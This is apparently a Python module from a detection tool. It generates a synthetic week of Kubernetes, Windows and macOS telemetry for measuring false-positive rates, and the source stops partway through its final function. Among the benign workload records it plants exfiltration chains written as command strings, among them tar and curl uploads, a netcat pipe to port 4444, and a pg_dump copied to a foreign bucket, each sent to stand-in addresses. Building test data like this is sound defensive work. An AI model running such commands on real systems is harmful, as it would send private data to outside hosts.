"""One realistic week of a cluster and a few workstations, as records, with attacks planted.

The false-positive budget (issue 12) is measured on this: web APIs that call external APIs all
day, nightly CronJob backups to object storage, export workers and partner feeds, CI runners,
notebooks, log shippers and sidecars, package installs at start-up, in Tetragon JSON; Windows
desktops with Teams, OneDrive and a browser, zipping folders to a file share, in Sysmon XML.
Attack chains are planted at random times in the last days, in both formats. Everything is
derived from the seed, so a week is the same byte for byte.
"""

from __future__ import annotations

import base64
import hashlib
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import orjson

from tidewaiter.alerts import alert_container

DAY = 86_400.0
START = 1_793_577_600.0  # 2026-11-02T00:00:00Z, a Monday


def iso(epoch: float) -> str:
    from datetime import UTC, datetime

    return datetime.fromtimestamp(epoch, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f000Z")


@dataclass(frozen=True)
class Pod:
    namespace: str
    workload: str
    kind: str  # the Kubernetes owner kind Tetragon reports (Deployment, CronJob, Pod, ...)
    image: str
    node: str
    ip: str
    name: str
    cid: str  # 64 hex

    @staticmethod
    def make(
        namespace: str, workload: str, kind: str, image: str, node: str, ip: str, name: str
    ) -> Pod:
        cid = hashlib.sha256(f"{namespace}/{name}".encode()).hexdigest()
        return Pod(namespace, workload, kind, image, node, ip, name, cid)


@dataclass
class Chain:
    """A planted attack: where and when, so alerts can be matched to it."""

    id: str
    entity: str  # a container id or a host name
    start: float
    end: float
    form: str  # the record format it was planted in


@dataclass
class Day:
    tetragon: list[tuple[float, bytes]] = field(default_factory=list)
    sysmon: list[tuple[float, str]] = field(default_factory=list)
    eslogger: dict[str, list[tuple[float, bytes]]] = field(default_factory=dict)  # by Mac
    containers: set[str] = field(default_factory=set)
    hosts: set[str] = field(default_factory=set)

    def tetragon_bytes(self) -> bytes:
        return b"".join(r + b"\n" for _, r in sorted(self.tetragon))

    def eslogger_bytes(self, host: str) -> bytes:
        return b"".join(r + b"\n" for _, r in sorted(self.eslogger.get(host, [])))

    def sysmon_text(self) -> str:
        return "".join(x for _, x in sorted(self.sysmon, key=lambda p: p[0]))


class Tetragon:
    """Tetragon export records: process_exec, and process_kprobe tcp_connect / tcp_sendmsg."""

    def __init__(self, day: Day) -> None:
        self.day = day

    def _process(self, pod: Pod, pid: int, binary: str, args: str, start: float) -> dict[str, Any]:
        exec_id = base64.b64encode(f"{pod.node}:{pod.cid[:12]}:{pid}".encode()).decode()
        return {
            "exec_id": exec_id,
            "pid": pid,
            "uid": 0,
            "cwd": "/",
            "binary": binary,
            "arguments": args,
            "flags": "execve clone",
            "start_time": iso(start),
            "auid": 4294967295,
            "pod": {
                "namespace": pod.namespace,
                "name": pod.name,
                "container": {
                    "id": f"containerd://{pod.cid}",
                    "name": pod.workload[:40],
                    "image": {"id": f"{pod.image}@sha256:{_digest(pod.image)}", "name": pod.image},
                    "start_time": iso(start),
                    "pid": 1,
                },
                "workload": pod.workload,
                "workload_kind": pod.kind,
            },
            "docker": pod.cid[:31],
        }

    def exec(
        self,
        pod: Pod,
        pid: int,
        binary: str,
        args: str,
        time: float,
        parent: tuple[int, str, str] | None = None,
    ) -> None:
        process = self._process(pod, pid, binary, args, time)
        record: dict[str, Any] = {"process": process}
        if parent is not None:
            ppid, pbinary, pargs = parent
            record["parent"] = self._process(pod, ppid, pbinary, pargs, time)
            process["parent_exec_id"] = record["parent"]["exec_id"]
        self._write(pod, time, {"process_exec": record})

    def flow(
        self,
        pod: Pod,
        proc: tuple[int, str, str, float],
        time: float,
        dst: str,
        port: int,
        sent: int,
        sends: int = 2,
    ) -> None:
        """A connection and its sends by an existing process (pid, binary, args, its start)."""
        pid, binary, args, started = proc
        sport = 30000 + (hash((pod.cid, time)) % 30000)
        sock = {
            "family": "AF_INET",
            "type": "SOCK_STREAM",
            "protocol": "IPPROTO_TCP",
            "saddr": pod.ip,
            "daddr": dst,
            "sport": sport,
            "dport": port,
        }
        process = self._process(pod, pid, binary, args, started)
        calls: list[tuple[str, list[dict[str, Any]]]] = [("tcp_connect", [{"sock_arg": sock}])]
        calls += [("tcp_sendmsg", [{"sock_arg": sock}, {"int_arg": sent // sends}])] * sends
        for n, (function, fargs) in enumerate(calls):
            body = {
                "process": process,
                "function_name": function,
                "args": fargs,
                "action": "KPROBE_ACTION_POST",
                "policy_name": "monitor-network",
            }
            self._write(pod, time + 0.2 * n, {"process_kprobe": body})

    def _write(self, pod: Pod, time: float, record: dict[str, Any]) -> None:
        record["node_name"] = pod.node
        record["time"] = iso(time)
        self.day.tetragon.append((time, orjson.dumps(record)))
        self.day.containers.add(pod.cid)


def _digest(image: str) -> str:
    return hashlib.sha256(image.encode()).hexdigest()


def sysmon_event(eid: int, time: float, record: int, host: str, data: dict[str, str]) -> str:
    """One Sysmon event as `wevtutil qe /f:xml` writes it."""
    fields = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
    stamp = iso(time)[:-4] + "Z"
    return (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        '<Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>'
        f"<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{eid}</Task>"
        f'<TimeCreated SystemTime="{stamp}"/><EventRecordID>{record}</EventRecordID>'
        '<Correlation/><Execution ProcessID="3140" ThreadID="4412"/>'
        f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{escape(host)}"
        f"</Computer></System><EventData>{fields}</EventData></Event>\n"
    )


@dataclass
class Desktop:
    host: str
    user: str
    ip: str
    logon: str
    serial: int = 0

    def guid(self, n: int) -> str:
        digest = hashlib.sha256(f"{self.host}:{n}".encode()).hexdigest()
        return f"{{{digest[:8]}-{digest[8:12]}-{digest[12:16]}-{digest[16:20]}-{digest[20:32]}}}"


class Sysmon:
    def __init__(self, day: Day) -> None:
        self.day = day

    def _add(self, desk: Desktop, eid: int, time: float, data: dict[str, str]) -> None:
        desk.serial += 1
        utc = iso(time)[:23].replace("T", " ")
        self.day.sysmon.append(
            (time, sysmon_event(eid, time, desk.serial, desk.host, {"UtcTime": utc, **data}))
        )
        self.day.hosts.add(desk.host)

    def start(self, desk: Desktop, n: int, image: str, cmd: str, time: float, parent: int) -> None:
        self._add(
            desk,
            1,
            time,
            {
                "ProcessGuid": desk.guid(n),
                "ProcessId": str(n),
                "Image": image,
                "CommandLine": cmd,
                "CurrentDirectory": f"C:\\Users\\{desk.user}\\",
                "User": f"CORP\\{desk.user}",
                "LogonId": desk.logon,
                "ParentProcessGuid": desk.guid(parent),
                "ParentProcessId": str(parent),
                "ParentImage": "C:\\Windows\\explorer.exe",
            },
        )

    def file(self, desk: Desktop, n: int, image: str, path: str, time: float) -> None:
        data = {"ProcessGuid": desk.guid(n), "ProcessId": str(n), "Image": image}
        self._add(desk, 11, time, {**data, "TargetFilename": path, "User": f"CORP\\{desk.user}"})

    def connect(self, desk: Desktop, n: int, image: str, ip: str, port: int, time: float) -> None:
        self._add(
            desk,
            3,
            time,
            {
                "ProcessGuid": desk.guid(n),
                "ProcessId": str(n),
                "Image": image,
                "User": f"CORP\\{desk.user}",
                "Protocol": "tcp",
                "Initiated": "true",
                "SourceIp": desk.ip,
                "SourcePort": str(49152 + desk.serial % 16000),
                "DestinationIp": ip,
                "DestinationPort": str(port),
            },
        )


@dataclass
class Mac:
    """A developer's Mac, recorded with `eslogger exec rename` (no network: ES has none)."""

    host: str
    user: str
    asid: int
    seq: int = 0


class Eslogger:
    def __init__(self, day: Day) -> None:
        self.day = day

    def _write(self, mac: Mac, time: float, pid: int, path: str, number: int, body: Any) -> None:
        mac.seq += 1
        token = {"auid": 501, "euid": 501, "ruid": 501, "pid": pid, "asid": mac.asid}
        record = {
            "schema_version": 1,
            "mach_time": int(time * 1e6),
            "event_type": number,
            "version": 7,
            "seq_num": mac.seq,
            "process": {"audit_token": token, "ppid": 1, "executable": {"path": path}},
            "event": body,
            "time": iso(time),
        }
        self.day.eslogger.setdefault(mac.host, []).append((time, orjson.dumps(record)))
        self.day.hosts.add(mac.host)

    def exec(self, mac: Mac, pid: int, path: str, args: list[str], time: float) -> None:
        token = {"auid": 501, "euid": 501, "ruid": 501, "pid": pid, "asid": mac.asid}
        target = {"audit_token": token, "ppid": pid - 1, "executable": {"path": path}}
        body = {"exec": {"target": target, "args": args, "cwd": {"path": f"/Users/{mac.user}"}}}
        self._write(mac, time, pid, path, 9, body)

    def rename(self, mac: Mac, pid: int, path: str, source: str, target: str, time: float) -> None:
        folder, _, name = target.rpartition("/")
        body = {
            "rename": {
                "source": {"path": source},
                "destination_type": 1,
                "destination": {"new_path": {"dir": {"path": folder + "/"}, "filename": name}},
            }
        }
        self._write(mac, time, pid, path, 25, body)


SAFARI = "/Applications/Safari.app/Contents/MacOS/Safari"
TEAMS = "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"
ONEDRIVE = "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
ROBOCOPY = "C:\\Windows\\System32\\Robocopy.exe"
CURL_EXE = "C:\\Windows\\System32\\curl.exe"
SEVENZIP = "C:\\Program Files\\7-Zip\\7z.exe"


@dataclass
class Figures:
    """What a run over the week gave: alerts above low outside the planted chains, and the
    planted chains found at high or above."""

    label: str
    container_alerts: int
    host_alerts: int
    container_days: int
    host_days: int
    found: int
    chains: int
    missed: list[str]
    noisy: list[str]  # a few of the false alerts, for the reader

    @property
    def per_1000_container_days(self) -> float:
        return 1000 * self.container_alerts / max(1, self.container_days)

    @property
    def per_100_host_days(self) -> float:
        return 100 * self.host_alerts / max(1, self.host_days)


@dataclass
class Week:
    days: list[Day]
    chains: list[Chain]
    container_days: int
    host_days: int

    def write(self, folder: Path) -> list[tuple[Path, ...]]:
        """One Tetragon and one Sysmon file per day (the paths of each day), and one eslogger
        file per Mac and day (an export names no host: see mac_files)."""
        folder.mkdir(parents=True, exist_ok=True)
        out: list[tuple[Path, ...]] = []
        for n, day in enumerate(self.days):
            tetragon = folder / f"day{n}.tetragon.jsonl"
            tetragon.write_bytes(day.tetragon_bytes())
            sysmon = folder / f"day{n}.sysmon.xml"
            sysmon.write_text(day.sysmon_text())
            for host in day.eslogger:
                (folder / f"day{n}.{host}.eslogger.jsonl").write_bytes(day.eslogger_bytes(host))
            out.append((tetragon, sysmon))
        return out


class _Builder:
    def __init__(self, seed: int, scale: float, days: int, attacks: int) -> None:
        self.rng = random.Random(seed)
        self.scale = scale
        self.ndays = days
        self.nattacks = attacks
        self.days = [Day() for _ in range(days)]
        self.chains: list[Chain] = []
        self.pid = 100

    def pod(
        self, namespace: str, workload: str, kind: str, image: str, name: str, node: str = ""
    ) -> Pod:
        """A pod on a node of the cluster, with an address of the pod network."""
        return Pod.make(namespace, workload, kind, image, node or self.node(), self.pod_ip(), name)

    def n(self, count: int) -> int:
        return max(1, round(count * self.scale))

    def next_pid(self) -> int:
        self.pid += 1
        return self.pid

    def node(self) -> str:
        return f"ip-10-0-{self.rng.randrange(1, 40)}-{self.rng.randrange(2, 250)}.ec2.internal"

    def pod_ip(self) -> str:
        return f"10.2.{self.rng.randrange(0, 255)}.{self.rng.randrange(2, 255)}"

    def suffix(self, n: int = 5) -> str:
        return "".join(self.rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))

    def at(self, day: int, low: float = 0.0, high: float = 1.0) -> float:
        return START + day * DAY + self.rng.uniform(low, high) * DAY

    # --- long-running workloads ----------------------------------------------------------

    def web_apis(self) -> list[Pod]:
        apis = ["198.51.100.10", "198.51.100.77", "203.0.113.200", "192.0.2.44", "192.0.2.45"]
        pods: list[Pod] = []
        for n in range(self.n(60)):
            name = f"api-{n:02d}"
            rs = self.suffix(9)
            for _replica in range(2):
                pod = self.pod(
                    f"team-{n % 12}",
                    name,
                    "Deployment",
                    f"registry.example.com/team-{n % 12}/{name}:1.{n}",
                    f"{name}-{rs}-{self.suffix()}",
                )
                pods.append(pod)
                targets = self.rng.sample(apis, 2)
                self._server(pod, targets, install=n % 5 == 0)
        return pods

    def _server(self, pod: Pod, targets: list[str], install: bool) -> None:
        t0 = START + self.rng.uniform(0, 600)
        day0 = Tetragon(self.days[0])
        if install:  # package installs at start-up, then the server
            pid = self.next_pid()
            cmd = "pip install --no-cache-dir -r /app/requirements.txt"
            day0.exec(pod, pid, "/bin/sh", f'-c "{cmd} && exec gunicorn app:app"', t0)
            pip = (self.next_pid(), "/usr/local/bin/pip", cmd[4:], t0 + 1)
            day0.exec(pod, pip[0], pip[1], pip[2], t0 + 1, (pid, "/bin/sh", "-c"))
            day0.flow(pod, pip, t0 + 2, "151.101.0.223", 443, 40_000, 3)
            t0 += 30
        server = (self.next_pid(), "/usr/local/bin/gunicorn", "app:app -b 0.0.0.0:8080", t0)
        day0.exec(pod, server[0], server[1], server[2], t0)
        for day in range(self.ndays):
            writer = Tetragon(self.days[day])
            for k in range(6):
                t = max(t0 + 60, self.at(day, k / 6, (k + 1) / 6))
                dst = targets[k % len(targets)]
                writer.flow(pod, server, t, dst, 443, self.rng.randrange(2_000, 60_000), 2)

    def shippers_and_sidecars(self) -> None:
        for n in range(self.n(20)):
            pod = self.pod(
                "logging",
                "fluent-bit",
                "DaemonSet",
                "cr.fluentbit.io/fluent/fluent-bit:3.1",
                f"fluent-bit-{self.suffix()}",
                node=f"node-{n}",
            )
            proc = (
                self.next_pid(),
                "/fluent-bit/bin/fluent-bit",
                "-c /fluent-bit/etc/f.conf",
                START,
            )
            Tetragon(self.days[0]).exec(pod, proc[0], proc[1], proc[2], START + 5)
            for day in range(self.ndays):
                for k in range(8):
                    t = self.at(day, k / 8, (k + 1) / 8)
                    Tetragon(self.days[day]).flow(pod, proc, t, "34.120.5.9", 443, 900_000, 3)
        for n in range(self.n(30)):
            pod = self.pod(
                f"team-{n % 12}",
                f"svc-{n:02d}",
                "Deployment",
                "docker.io/istio/proxyv2:1.23.0",
                f"svc-{n:02d}-{self.suffix(9)}-{self.suffix()}",
            )
            proc = (self.next_pid(), "/usr/local/bin/envoy", "-c /etc/istio/envoy.yaml", START)
            Tetragon(self.days[0]).exec(pod, proc[0], proc[1], proc[2], START + 7)
            for day in range(self.ndays):
                t = self.at(day)
                Tetragon(self.days[day]).flow(pod, proc, t, "10.2.0.10", 15012, 4_000, 1)

    # --- scheduled and batch workloads ---------------------------------------------------

    def backups(self) -> None:
        for n in range(self.n(15)):
            name = f"db-{n:02d}-backup"
            bucket = f"corp-db-backups-{n:02d}"
            size = self.rng.randrange(20, 400) * 1_000_000
            for day in range(self.ndays):
                t = START + day * DAY + 7200 + n * 60
                minute = int(t // 60)
                pod = self.pod(
                    "databases",
                    name,
                    "CronJob",
                    "registry.example.com/ops/db-tools:16.2",
                    f"{name}-{minute}-{self.suffix()}",
                )
                date = iso(t)[:10]
                dump = f"/backup/{name}-{date}.sql.gz"
                sh = (self.next_pid(), "/bin/sh", f'-c "pg_dump -h db-{n:02d} app | gzip > {dump}"')
                writer = Tetragon(self.days[day])
                writer.exec(pod, sh[0], sh[1], sh[2], t)
                writer.exec(pod, self.next_pid(), "/bin/gzip", "", t + 0.1, sh)
                aws = (
                    self.next_pid(),
                    "/usr/local/bin/aws",
                    f"s3 cp {dump} s3://{bucket}/daily/ --sse aws:kms",
                    t + 300,
                )
                writer.exec(pod, aws[0], aws[1], aws[2], aws[3])
                s3 = f"52.216.{self.rng.randrange(0, 255)}.{self.rng.randrange(1, 255)}"
                varied = int(size * self.rng.uniform(0.9, 1.1))
                writer.flow(pod, aws, t + 301, s3, 443, varied, 4)

    def _archive_and_copy(
        self,
        day: int,
        pod: Pod,
        t: float,
        archiver: tuple[str, str],
        uploader: tuple[str, str],
        dst: tuple[str, int],
        size: int,
    ) -> None:
        """An archive made, then copied out by an upload tool 20 seconds later."""
        writer = Tetragon(self.days[day])
        writer.exec(pod, self.next_pid(), archiver[0], archiver[1], t)
        up = (self.next_pid(), uploader[0], uploader[1], t + 20)
        writer.exec(pod, up[0], up[1], up[2], up[3])
        writer.flow(pod, up, t + 21, dst[0], dst[1], size, 3)

    def exports(self) -> None:
        """Export workers (a Deployment) zip a customer's data to the company's bucket."""
        for n in range(self.n(10)):
            name = f"export-worker-{n}"
            pod = self.pod(
                "exports",
                name,
                "Deployment",
                "registry.example.com/exports/worker:3.2",
                f"{name}-{self.suffix(9)}-{self.suffix()}",
            )
            for day in range(self.ndays):
                t = self.at(day, 0.3, 0.7)
                customer = f"cust{self.rng.randrange(100, 999)}"
                date = iso(t)[:10]
                zipped = f"/tmp/export-{customer}-{date}.zip"
                self._archive_and_copy(
                    day,
                    pod,
                    t,
                    ("/usr/bin/zip", f"-r -q {zipped} /data/{customer}"),
                    (
                        "/usr/local/bin/aws",
                        f"s3 cp {zipped} s3://corp-customer-exports/{customer}/",
                    ),
                    (f"52.217.{self.rng.randrange(0, 255)}.{self.rng.randrange(1, 255)}", 443),
                    self.rng.randrange(2, 30) * 1_000_000,
                )

    def feeds(self) -> None:
        """Feed generators (CronJobs) push a file to a partner over sftp each night."""
        for n in range(self.n(5)):
            name = f"partner-feed-{n}"
            for day in range(self.ndays):
                t = START + day * DAY + 10800 + n * 120
                pod = self.pod(
                    "feeds",
                    name,
                    "CronJob",
                    "registry.example.com/feeds/generator:2.0",
                    f"{name}-{int(t // 60)}-{self.suffix()}",
                )
                out = f"/out/feed-{iso(t)[:10]}.tgz"
                self._archive_and_copy(
                    day,
                    pod,
                    t,
                    ("/bin/tar", f"czf {out} -C /data feed"),
                    ("/usr/bin/scp", f"-i /keys/k {out} feed@sftp.partner{n}.example:/incoming/"),
                    (f"198.18.{n}.20", 22),
                    3_000_000,
                )

    def ci(self) -> None:
        """CI jobs: a new runner pod each; the helper talks to the CI service throughout."""
        for day in range(self.ndays):
            for n in range(self.n(10)):
                t = self.at(day, 0.3, 0.8)
                pod = self.pod(
                    "ci",
                    f"runner-{self.suffix(8)}-project-{n}-concurrent-0",
                    "Pod",
                    "registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v17",
                    f"runner-{self.suffix(8)}-project-{n}-concurrent-0",
                )
                writer = Tetragon(self.days[day])
                helper = (self.next_pid(), "/usr/bin/gitlab-runner-helper", "build", t)
                writer.exec(pod, helper[0], helper[1], helper[2], t)
                writer.flow(pod, helper, t + 1, "172.65.251.78", 443, 20_000, 1)
                sh = (self.next_pid(), "/bin/sh", '-c "npm ci && npm run build"')
                writer.exec(pod, sh[0], sh[1], sh[2], t + 5)
                npm = (self.next_pid(), "/usr/local/bin/npm", "ci", t + 6)
                writer.exec(pod, npm[0], npm[1], npm[2], t + 6, sh)
                writer.flow(pod, npm, t + 7, "104.16.24.35", 443, 80_000, 2)
                writer.exec(
                    pod, self.next_pid(), "/bin/tar", "czf /cache/cache.tgz node_modules", t + 400
                )
                writer.flow(pod, helper, t + 420, "172.65.251.78", 443, 250_000, 2)

    def notebooks(self) -> None:
        for n in range(self.n(8)):
            name = f"notebook-{n}"
            pod = self.pod(
                "data-science",
                name,
                "StatefulSet",
                "quay.io/jupyter/scipy-notebook:2024-10-07",
                f"{name}-0",
            )
            for day in range(self.ndays):
                t = self.at(day, 0.6, 0.75)
                out = f"/home/jovyan/results-{iso(t)[:10]}.zip"
                self._archive_and_copy(
                    day,
                    pod,
                    t,
                    ("/usr/bin/zip", f"-r -q {out} results"),
                    ("/usr/bin/gsutil", f"cp {out} gs://ds-team-{n}/"),
                    ("142.250.1.128", 443),
                    5_000_000,
                )

    # --- workstations --------------------------------------------------------------------

    def desktops(self) -> list[Desktop]:
        desks = []
        for n in range(max(2, self.n(6))):
            user = f"user{n:02d}"
            desk = Desktop(f"WS-{n:04d}.corp.example.com", user, f"10.30.0.{10 + n}", f"0x{n:x}3e7")
            desks.append(desk)
            for day in range(self.ndays):
                writer = Sysmon(self.days[day])
                base = START + day * DAY + 8 * 3600
                teams, onedrive = TEAMS.format(u=user), ONEDRIVE.format(u=user)
                ids = {"teams": 2000 + day * 10, "onedrive": 2001 + day * 10, "edge": 2002}
                writer.start(desk, ids["teams"], teams, f'"{teams}" --system-initiated', base, 1)
                writer.start(desk, ids["onedrive"], onedrive, f'"{onedrive}" /background', base, 1)
                for k in range(12):
                    t = base + k * 2400 + self.rng.uniform(0, 600)
                    writer.connect(desk, ids["teams"], teams, "52.112.0.10", 443, t)
                    writer.connect(desk, ids["onedrive"], onedrive, "13.107.42.12", 443, t + 30)
                if self.rng.random() < 0.4:  # a zip of a folder to the team share
                    t = base + self.rng.uniform(3600, 7 * 3600)
                    zipped = f"C:\\Users\\{user}\\Documents\\report-{day}.zip"
                    ps = 3000 + day * 10
                    cmd = (
                        f'powershell.exe -Command "Compress-Archive -Path C:\\Users\\{user}'
                        f'\\Documents\\Reports\\* -DestinationPath {zipped}"'
                    )
                    writer.start(desk, ps, PS, cmd, t, 1)
                    writer.file(desk, ps, PS, zipped, t + 2)
                    rc = ps + 1
                    copy = f"robocopy C:\\Users\\{user}\\Documents \\\\fs01\\team report-{day}.zip"
                    writer.start(desk, rc, ROBOCOPY, copy, t + 30, 1)
                    writer.connect(desk, rc, ROBOCOPY, "10.30.1.5", 445, t + 31)
        return desks

    def macs(self) -> list[Mac]:
        """Developer Macs: downloads finished by Safari, an app zipped with ditto and sent to
        Apple's notary service and App Store Connect."""
        macs = []
        for n in range(max(1, self.n(3))):
            mac = Mac(f"dev-mbp-{n}.corp.example.com", f"dev{n}", 100_000 + n)
            macs.append(mac)
            for day in range(self.ndays):
                writer = Eslogger(self.days[day])
                t = START + day * DAY + 9 * 3600 + self.rng.uniform(0, 3600)
                pid = 7000 + 100 * day
                home = f"/Users/{mac.user}"
                got = f"{home}/Downloads/sdk-{day}.zip"
                writer.rename(mac, pid, SAFARI, got + ".download", got, t)
                if self.rng.random() < 0.5:
                    app = f"{home}/build/App-{day}.zip"
                    ditto = ["ditto", "-c", "-k", "--keepParent", f"{home}/build/App.app", app]
                    writer.exec(mac, pid + 1, "/usr/bin/ditto", ditto, t + 600)
                    notary = ["xcrun", "notarytool", "submit", app, "--keychain-profile", "ci"]
                    writer.exec(mac, pid + 2, "/usr/bin/xcrun", notary, t + 620)
                    upload = ["xcrun", "altool", "--upload-app", "-f", app, "-t", "macos"]
                    writer.exec(mac, pid + 3, "/usr/bin/xcrun", upload, t + 1800)
        return macs

    # --- attacks -------------------------------------------------------------------------

    def attacks(self, pods: list[Pod], desks: list[Desktop], macs: list[Mac]) -> None:
        first = max(0, self.ndays - 3)
        for n in range(self.nattacks):
            day = self.rng.randrange(first, self.ndays)
            t = self.at(day, 0.05, 0.9)
            kind = n % 7
            if kind < 5:
                self._container_attack(n, kind, self.rng.choice(pods), day, t)
            elif kind == 5:
                self._desktop_attack(n, self.rng.choice(desks), day, t)
            else:
                self._mac_attack(n, self.rng.choice(macs), day, t)

    def _mac_attack(self, n: int, mac: Mac, day: int, t: float) -> None:
        writer = Eslogger(self.days[day])
        loot = f"/private/tmp/.k{n}.zip"
        pid = 9000 + 10 * n
        zip_argv = ["zip", "-q", "-r", "-P", "hunter2", loot, f"/Users/{mac.user}/Documents"]
        writer.exec(mac, pid, "/usr/bin/zip", zip_argv, t)
        curl = ["curl", "-s", "-T", loot, f"https://203.0.113.{150 + n}/drop"]
        writer.exec(mac, pid + 1, "/usr/bin/curl", curl, t + 12)
        self.chains.append(Chain(f"chain-{n}", mac.host, t, t + 20, "eslogger"))

    def _container_attack(self, n: int, kind: int, pod: Pod, day: int, t: float) -> None:
        """A shell line, then each program it runs as its own exec, then the upload's flow."""
        writer = Tetragon(self.days[day])
        drop = f"203.0.113.{10 + n}"
        steps: list[tuple[str, str]]  # (binary, arguments) of each program the line runs
        if kind == 0:
            steps = [
                ("/bin/tar", f"czf /tmp/.c{n}.tgz /app /etc"),
                ("/usr/bin/curl", f"-s -T /tmp/.c{n}.tgz https://{drop}/u"),
            ]
            line = f"tar czf /tmp/.c{n}.tgz /app /etc && curl -s -T /tmp/.c{n}.tgz https://{drop}/u"
        elif kind == 1:
            steps = [
                ("/usr/bin/pg_dump", "-h db app"),
                ("/bin/gzip", ""),
                ("/usr/local/bin/aws", f"s3 cp /tmp/d{n}.gz s3://drop-{n}-bucket/"),
            ]
            line = f"pg_dump -h db app | gzip > /tmp/d{n}.gz && aws {steps[2][1]}"
        elif kind == 2:
            steps = [("/bin/tar", "cz /var/lib/app"), ("/usr/bin/nc", f"{drop} 4444")]
            line = f"tar cz /var/lib/app | nc {drop} 4444"
        elif kind == 3:
            steps = [
                ("/usr/bin/zip", f"-P s3cret -r /tmp/r{n}.zip /data"),
                ("/usr/bin/curl", f"-F f=@/tmp/r{n}.zip https://{drop}/"),
            ]
            line = f"zip {steps[0][1]} && curl {steps[1][1]}"
        else:
            steps = [
                ("/bin/tar", "czf /tmp/app.log.gz /data"),
                ("/usr/bin/curl", f"-T /tmp/app.log.gz https://{drop}/in"),
            ]
            line = f"tar {steps[0][1]} && curl {steps[1][1]}"
        sh = (self.next_pid(), "/bin/sh", f'-c "{line}"')
        writer.exec(pod, sh[0], sh[1], sh[2], t)
        last = (0, "", "", t)
        for k, (binary, args) in enumerate(steps):
            last = (self.next_pid(), binary, args, t + 0.1 + 10 * k)
            writer.exec(pod, last[0], binary, args, last[3], sh)
        dst = f"52.218.{n}.9" if kind == 1 else drop
        writer.flow(pod, last, last[3] + 1, dst, 4444 if kind == 2 else 443, 40_000_000, 4)
        self.chains.append(Chain(f"chain-{n}", pod.cid, t, last[3] + 5, "tetragon"))

    def _desktop_attack(self, n: int, desk: Desktop, day: int, t: float) -> None:
        writer = Sysmon(self.days[day])
        user = desk.user
        zipped = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\s{n}.zip"
        ps = 5000 + n
        cmd = (
            f'powershell.exe -Command "Compress-Archive -Path C:\\Users\\{user}\\Documents\\* '
            f'-DestinationPath {zipped}"'
        )
        writer.start(desk, ps, PS, cmd, t, 1)
        writer.file(desk, ps, PS, zipped, t + 3)
        up = ps + 1000
        writer.start(
            desk, up, CURL_EXE, f"curl.exe -T {zipped} https://203.0.113.{100 + n}/", t + 9, ps
        )
        writer.connect(desk, up, CURL_EXE, f"203.0.113.{100 + n}", 443, t + 10)
        self.chains.append(Chain(f"chain-{n}", desk.host, t, t + 20, "sysmon-xml"))


def generate(seed: int = 12, scale: float = 1.0, days: int = 7, attacks: int = 24) -> Week:
    builder = _Builder(seed, scale, days, attacks)
    pods = builder.web_apis()
    builder.shippers_and_sidecars()
    builder.backups()
    builder.exports()
    builder.feeds()
    builder.ci()
    builder.notebooks()
    desks = builder.desktops()
    macs = builder.macs()
    builder.attacks(pods, desks, macs)
    container_days = sum(len(d.containers) for d in builder.days)
    host_days = sum(len(d.hosts) for d in builder.days)
    return Week(builder.days, builder.chains, container_days, host_days)


def score(label: str, week: Week, alerts: list[dict[str, Any]], days: range) -> Figures:
    """Alerts above low that no planted chain accounts for, per container-day and host-day of
    the scored days, and the chains found at high or above."""
    first, last = START + days.start * DAY, START + days.stop * DAY
    chains = [c for c in week.chains if first <= c.start < last]
    found: set[str] = set()
    container_alerts = host_alerts = 0
    noisy: list[str] = []
    for alert in alerts:
        container = alert_container(alert)
        entity = container.get("uid") or (alert.get("device") or {}).get("hostname")
        when = alert["time"] / 1000
        mine = [
            c
            for c in chains
            if entity
            and c.entity.startswith(str(entity)[:12])
            and c.start - 60 <= when
            and when <= c.end + 1200
        ]
        if mine:
            if alert["severity_id"] >= 4:
                found.update(c.id for c in mine)
            continue
        if alert["severity_id"] < 3:
            continue
        if container:
            container_alerts += 1
        else:
            host_alerts += 1
        if len(noisy) < 5:
            pod = (alert.get("unmapped") or {}).get("k8s", {}).get("pod") or entity
            noisy.append(f"{alert['severity']} {alert['finding_info']['title']}: {pod}")
    container_days = sum(len(week.days[d].containers) for d in days)
    host_days = sum(len(week.days[d].hosts) for d in days)
    missed = sorted(c.id for c in chains if c.id not in found)
    return Figures(
        label,
        container_alerts,
        host_alerts,
        container_days,
        host_days,
        len(chains) - len(missed),
        len(chains),
        missed,
        noisy,
    )


def measure(week: Week, folder: Path, learn_days: int = 4) -> list[Figures]:
    """Detect over the week twice: with no configuration, and after `detect --db --learn` on
    the first days (one run a day, as a nightly job would), scoring the last days."""
    from tidewaiter.pipeline import EngineConfig
    from tidewaiter.run import detect_files
    from tidewaiter.store import Store

    files = week.write(folder)
    config = EngineConfig()
    macs = sorted({host for day in week.days for host in day.eslogger})

    def mac_alerts(days: range) -> list[dict[str, Any]]:
        """Each Mac's eslogger export, read as `detect --assume-host HOST` reads it."""
        alerts: list[dict[str, Any]] = []
        for host in macs:
            paths = [folder / f"day{n}.{host}.eslogger.jsonl" for n in days]
            found = [str(p) for p in paths if p.exists()]
            alerts += detect_files(found, EngineConfig(assume_host=host), []).alerts
        return alerts

    plain = detect_files([str(p) for day in files for p in day], config, [])
    every = range(len(files))
    figures = [score("no configuration", week, plain.alerts + mac_alerts(every), every)]
    store = Store(folder / "tw.duckdb")
    try:
        for day in files[:learn_days]:
            baselines = store.load_baselines(learn=True)
            detect_files([str(p) for p in day], config, [], store=store, baselines=baselines)
            store.save_baselines(baselines)
        alerts: list[dict[str, Any]] = []
        for day in files[learn_days:]:
            baselines = store.load_baselines(learn=False)
            alerts += detect_files(
                [str(p) for p in day], config, [], store=store, baselines=baselines
            ).alerts
    finally:
        store.close()
    learned = f"after learning {learn_days} days with detect --db --learn"
    scored = range(learn_days, len(files))
